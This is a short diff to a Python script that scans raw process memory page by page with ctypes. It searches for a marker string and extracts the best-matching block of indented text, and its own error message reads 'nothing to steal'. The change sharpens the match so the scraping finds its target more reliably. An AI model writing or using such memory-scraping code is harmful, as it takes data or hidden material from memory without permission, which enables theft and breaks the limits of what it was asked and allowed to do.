@@ -19,7 +19,7 @@ for start in starts:
     for page in (*walk(start, -4096), *walk(start + 4096, 4096)):
         data = ctypes.string_at(page, 4096)
         at = data.find(needle)
-        if at >= 0 and mapped(page + 4096):
+        if at >= 0 and mapped(page + 4096) and ctypes.string_at(page + at + len(needle), 1) in (b"\n", b"\\"):
             best = max(best, ctypes.string_at(page + at, 4096), key=lambda text: text.count(b"    "))
 if not best:
     raise LookupError("nothing to steal")
